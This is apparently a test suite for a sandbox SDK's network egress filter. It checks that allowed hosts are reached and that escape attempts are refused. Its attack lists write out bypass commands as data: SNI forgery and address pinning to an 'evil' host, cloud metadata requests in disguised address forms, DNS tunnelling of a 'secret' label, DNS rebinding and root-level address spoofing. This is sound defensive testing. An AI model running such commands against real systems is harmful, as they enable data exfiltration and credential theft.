import assert from "node:assert/strict";
import { createServer, type AddressInfo, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { after, before, suite, test } from "node:test";

import { Client, Sandbox } from "@skerry/sdk";

import { eventually } from "../support/eventually.ts";
import { evil, good, lan, metadata, moving, startInternet } from "../support/internet.ts";
import type { NameServer } from "../support/name-server.ts";
import type { Outside } from "../support/outside.ts";
import { startServer } from "../support/server.ts";

const held = new AsyncDisposableStack();
let names: NameServer;
let outside: Outside;
let client: Client;
let filtered: Sandbox;
let open: Sandbox;
let closed: Sandbox;
let ownService: Server;

before(async () => {
  ({ outside, names } = held.use(await startInternet()));
  // A service of this host that listens everywhere.
  ownService = createServer((socket) => {
    outside.reached.push("host service");
    socket.end("reached");
  });
  await new Promise<void>((done) => ownService.listen(0, "0.0.0.0", done));
  held.defer(() => void ownService.close());
  const args = ["--name-server", names.address, "--allow-private", `${lan}:8000`];
  const server = held.use(await startServer({ pool: 2, args }));
  const options = { endpoint: server.url, token: server.token };
  client = new Client(options);
  // Two that were open while they waited, and one that never was.
  await eventually("the pool is full", async () => (await client.status()).poolReady === 2, 60_000);
  const allowNet = ["good.test:443", "good.test:80", "*.wild.test", `${good}:8000`, "intra.test"];
  filtered = held.use(await Sandbox.create({ ...options, allowNet }));
  open = held.use(await Sandbox.create(options));
  closed = held.use(await Sandbox.create({ ...options, allowNet: [] }));
});
after(() => held.disposeAsync());

/** What a command prints, and nothing when it fails. */
async function run(sandbox: Sandbox, command: string): Promise<string> {
  return await sandbox.sh`bash -c ${command}`.noThrow().stderr("null").text();
}

const curl = "curl -sk -m 8";

suite("what a policy allows", { timeout: 400_000 }, () => {
  for (const [what, command] of [
    ["a name on its port", `${curl} https://good.test/`],
    ["a name below another", `${curl} http://api.wild.test:8000/`],
    ["an address on its port", `${curl} http://${good}:8000/`],
  ] as const) {
    test(`${what} is reached`, async () => {
      assert.match(await run(filtered, command), /^reached/);
    });
  }

  test("anything public is reached without one", async () => {
    assert.equal(await run(open, `${curl} https://evil.test/`), `reached ${evil}`);
    assert.equal(await run(open, `${curl} http://${evil}:8000/`), `reached ${evil}`);
  });

  test("a private address is reached that the operator has excepted, by name and on its port", async () => {
    names.names.set("intra.test", [lan]);
    assert.equal(await run(filtered, `${curl} http://intra.test:8000/`), `reached ${lan}`);
    for (const [sandbox, url] of [
      [filtered, "http://intra.test/"],
      [open, "http://intra.test:8000/"],
      [open, `http://${lan}:8000/`],
      [closed, `http://${lan}:8000/`],
    ] as const) {
      outside.reached.length = 0;
      assert.equal(await run(sandbox, `${curl} ${url}`), "");
      assert.deepEqual(outside.reached, []);
    }
  });

  test("what carries a great body both ways arrives whole", async () => {
    const command = `head -c 3000000 /dev/urandom > /tmp/b; ${curl} --data-binary @/tmp/b https://good.test/upload`;
    assert.equal(await run(filtered, command), `reached ${good}`);
  });
});

/** Python in the machine, for what no ordinary program does. */
const python = (code: string): string => `python3 -c '${code}'`;
const udpTo = (address: string, port: number): string =>
  python(
    `import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2); s.connect(("${address}",${port})); s.send(b"x"); print(s.recv(9))`,
  );
/** Asks a name server for a name whose labels are given, over UDP, and prints the addresses and the code. */
const ask = (serverAddress: string, labels: string): string =>
  python(
    [
      "import socket,struct",
      "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5)",
      `q=b"\\x12\\x34\\x01\\x00\\x00\\x01"+bytes(6)+b"".join(bytes([len(l)])+l for l in [${labels}])+b"\\x00\\x00\\x01\\x00\\x01"`,
      `s.sendto(q,("${serverAddress}",53)); r=s.recv(512); print("code",r[3]&15,"answers",struct.unpack(">H",r[6:8])[0])`,
    ].join("; "),
  );

suite("attacked by code in a filtered sandbox", { timeout: 240_000 }, () => {
  const attacks: readonly (readonly [what: string, command: string])[] = [
    [
      "a forged SNI towards another address",
      `${curl} --connect-to good.test:443:${evil}:443 https://good.test/`,
    ],
    [
      "an address pinned for an allowed name",
      `${curl} --resolve good.test:443:${evil} https://good.test/`,
    ],
    ["an address instead of a name", `${curl} https://${evil}/`],
    ["an allowed address on another port", `${curl} http://${good}:853/`],
    [
      "an allowed name on another port",
      `${curl} http://good.test:8000/ --resolve good.test:8000:${evil}`,
    ],
    ["a name that no rule has", `${curl} https://evil.test/`],
    ["a name that only ends like an allowed one", `${curl} http://evilgood.test/`],
    ["the apex of what is allowed below it", `${curl} http://wild.test/`],
    ["a redirect to another host", `${curl} -L http://good.test/redirect`],
    ["an allowed name that leads into the LAN", `${curl} http://lan.wild.test/`],
    ["DNS over TLS", `${curl} telnet://${evil}:853 </dev/null`],
    ["UDP to an allowed address, as QUIC is", udpTo(good, 443)],
    ["UDP to another address", udpTo(evil, 443)],
    ["the metadata service", `${curl} http://${metadata}/`],
    ["the metadata service as an IPv6 address", `${curl} "http://[::ffff:${metadata}]/"`],
    ["the metadata service through NAT64", `${curl} "http://[64:ff9b::a9fe:a9fe]/"`],
    ["the metadata service as a number", `${curl} http://2852039166/`],
    ["an address of the LAN", `${curl} http://${lan}/`],
    ["IPv6", `${curl} "http://[2001:db8::1]/"`],
    ["a ping", `sudo ping -c 1 -W 1 ${good} | grep "1 received"`],
    [
      "the listener of egress itself",
      `${curl} http://100.100.0.1:5000/; ${curl} http://10.77.0.1:5000/`,
    ],
    [
      "an address that is not the machine's, as root",
      `sudo ip addr add 10.77.0.9/24 dev eth0; ${curl} --interface 10.77.0.9 https://good.test/ -m 2; sudo ip addr del 10.77.0.9/24 dev eth0`,
    ],
    [
      "another machine's address on the way out, as root",
      `sudo ip addr add 100.100.0.10/32 dev eth0; ${curl} --interface 100.100.0.10 https://good.test/ -m 2; sudo ip addr del 100.100.0.10/32 dev eth0`,
    ],
  ];
  for (const [what, command] of attacks) {
    test(`${what} is refused`, async () => {
      const before = outside.reached.length;
      const printed = await run(filtered, command);
      assert.doesNotMatch(printed, /reached|received/);
      const since = outside.reached.slice(before).filter((line) => !line.includes("/redirect"));
      assert.deepEqual(since, []);
    });
  }

  test("names without a rule are refused, whoever is asked, and nobody outside hears of them", async () => {
    const secret = `b"c2VjcmV0", b"tunnel", b"test"`;
    for (const address of ["10.77.0.1", evil, "8.8.8.8", metadata]) {
      assert.equal(await run(filtered, ask(address, secret)), "code 5 answers 0\n", address);
    }
    assert.deepEqual(
      names.asked.filter((name) => name.includes("tunnel")),
      [],
    );
    assert.deepEqual(
      outside.reached.filter((line) => /:53|udp 53/.test(line)),
      [],
    );
  });

  test("names with NUL, dots and odd bytes in a label match no rule", async () => {
    for (const labels of [
      `b"good\\x00", b"test"`,
      `b"good.test"`,
      `b"GOOD.evil", b"test"`,
      `b"\\xff", b"wild", b"test"`,
    ]) {
      assert.match(await run(filtered, ask("10.77.0.1", labels)), /^code 5 answers 0\n|^$/, labels);
    }
  });

  test("a name that is bound, and leads elsewhere when the connection comes, is refused", async () => {
    let asked = 0;
    names.names.set("rebind.wild.test", () => (asked++ === 0 ? [moving] : [metadata]));
    const before = outside.reached.length;
    assert.doesNotMatch(await run(filtered, `${curl} http://rebind.wild.test/`), /reached/);
    assert.ok(asked >= 2, `${asked} questions`);
    assert.deepEqual(outside.reached.slice(before), []);
  });

  test("a Host header of another host stays with the origin that was dialled", async () => {
    await run(filtered, `${curl} -H "Host: evil.test" https://good.test/host`);
    const lines = outside.reached.filter((line) => line.includes("/host"));
    assert.deepEqual(lines, [`https ${good}:443 /host evil.test`]);
  });

  test("what was refused is in its event log, with host, port and reason", async () => {
    const wanted = { host: "evil.test", port: null, reason: "no-rule" };
    const pinned = { host: evil, port: 443, reason: "no-name" };
    await eventually("the log has both", async () => {
      const events = await client.sandboxes.events(filtered.id);
      const details = events
        .filter(({ kind }) => kind === "network-refused")
        .map(({ detail }) => detail);
      const has = (one: object): boolean =>
        details.some((detail) => JSON.stringify(detail) === JSON.stringify(one));
      return has(wanted) && has(pinned);
    });
  });
});

suite("attacked by code in any sandbox", { timeout: 240_000 }, () => {
  test("addresses of this host are refused, whichever one it is", async () => {
    const { port } = ownService.address() as AddressInfo; // it listens on TCP
    const own = Object.values(networkInterfaces()).flatMap((list) =>
      (list ?? []).filter(({ family }) => family === "IPv4").map(({ address }) => address),
    );
    assert.ok(own.includes(outside.hostAddress));
    for (const sandbox of [open, filtered, closed]) {
      for (const address of [...own, "10.77.0.1"]) {
        const printed = await run(sandbox, `${curl} -m 4 telnet://${address}:${port} </dev/null`);
        assert.equal(printed, "", address);
      }
    }
    assert.ok(!outside.reached.includes("host service"));
  });

  for (const [what, target] of [
    ["the metadata service", metadata],
    ["the metadata service by a name", "meta.test"],
    ["an address of the LAN", lan],
    ["a name that leads into the LAN", "lan.wild.test"],
  ] as const) {
    test(`${what} is refused without a policy too`, async () => {
      const before = outside.reached.length;
      assert.equal(await run(open, `${curl} http://${target}/`), "");
      assert.deepEqual(outside.reached.slice(before), []);
    });
  }

  test("another sandbox is refused, at every address that it has", async () => {
    const child = await open.spawn("python3", {
      ...{ args: ["-u", "-m", "http.server", "8123"], stdout: "piped", stderr: "null" },
    });
    await child.stdout?.getReader().read(); // it says that it serves
    assert.match(await run(open, `${curl} http://127.0.0.1:8123/`), /Directory listing/);
    for (let number = 1; number <= 4; number++) {
      const address = `100.100.0.${number * 4 + 2}`;
      for (const sandbox of [filtered, closed, open]) {
        assert.equal(await run(sandbox, `${curl} -m 4 http://${address}:8123/`), "", address);
      }
    }
    await child.kill();
  });

  test("an empty list lets nothing out: neither names nor connections", async () => {
    const before = outside.reached.length;
    const asked = names.asked.length;
    for (const command of [
      `${curl} https://good.test/`,
      `${curl} http://${good}/`,
      udpTo(good, 53),
    ]) {
      assert.equal(await run(closed, command), "");
    }
    assert.equal(outside.reached.length, before);
    assert.equal(names.asked.length, asked);
  });
});
